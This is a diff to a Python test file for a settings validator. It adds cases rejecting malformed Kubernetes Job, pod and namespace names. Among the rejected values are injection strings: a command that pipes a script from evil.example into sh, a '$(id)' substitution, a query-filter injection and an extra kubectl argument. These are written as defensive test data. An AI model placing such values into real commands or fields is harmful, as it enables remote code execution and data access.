@@ -90,6 +90,18 @@ def test_everything_missing_is_named_at_once_one_line_a_variable(environment: py
         ("SUPABASE_URL", "http://rest.example.com", "is http:// to another machine"),
         ("SUPABASE_URL", "http://10.0.0.7:8000", "is http:// to another machine"),
         ("TELEGRAM_API_URL", "http://bot-api:8081", "is http:// to another machine"),
+        ("JOB_NAME", "Reports", "is not a Job's name in Kubernetes"),
+        ("JOB_NAME", "reports; curl evil.example | sh", "is not a Job's name in Kubernetes"),
+        ("JOB_NAME", "$(id)", "is not a Job's name in Kubernetes"),
+        ("JOB_NAME", "reports-", "is not a Job's name in Kubernetes"),
+        ("JOB_NAME", "a..b", "is not a Job's name in Kubernetes"),
+        ("JOB_NAME", 64 * "a", "is not a Job's name in Kubernetes"),
+        ("POD_NAME", 'pod",lease_until.gt.now,holder.eq."', "is not a pod's name in Kubernetes"),
+        ("POD_NAME", "pod_1", "is not a pod's name in Kubernetes"),
+        ("POD_NAME", 254 * "a", "is not a pod's name in Kubernetes"),
+        ("POD_NAMESPACE", "team.production", "is not a namespace in Kubernetes"),
+        ("POD_NAMESPACE", "production -o yaml", "is not a namespace in Kubernetes"),
+        ("POD_NAMESPACE", 64 * "a", "is not a namespace in Kubernetes"),
         ("SMTP_USER", "your-email@gmail.com", "is still the placeholder"),
         ("SMTP_PASSWORD", "your-app-password", "is still the placeholder"),
         ("SUPABASE_KEY", "change-me", "is still the placeholder"),
@@ -329,8 +341,19 @@ def test_a_file_of_settings_that_others_may_read_is_named_with_the_command_that_
     if mode & 0o077:
         (hint,) = hints
         assert hint.startswith(f"Other users of this machine may read {env_file}. Run: ")
-        subprocess.run(hint.partition(" Run: ")[2], shell=True, check=True, timeout=60)  # noqa: S602 - as pasted
+        subprocess.run(hint.partition(" Run: ")[2], shell=True, check=True, timeout=60)
         assert load_settings(env_file).hints == []
         assert env_file.stat().st_mode & 0o777 == 0o600
     else:
         assert hints == []
+
+
+def test_every_name_that_kubernetes_gives_is_taken(environment: pytest.MonkeyPatch) -> None:
+    """Up to the longest, with dots where it allows them."""
+    names = {"JOB_NAME": f"1.a-{59 * 'b'}", "POD_NAME": f"{126 * 'a.'}b", "POD_NAMESPACE": f"0-{61 * 'a'}"}
+    for name, value in names.items():
+        environment.setenv(name, value)
+
+    report = checked_settings(None).report
+
+    assert [report.job_name, report.pod_name, report.pod_namespace] == [*names.values()]
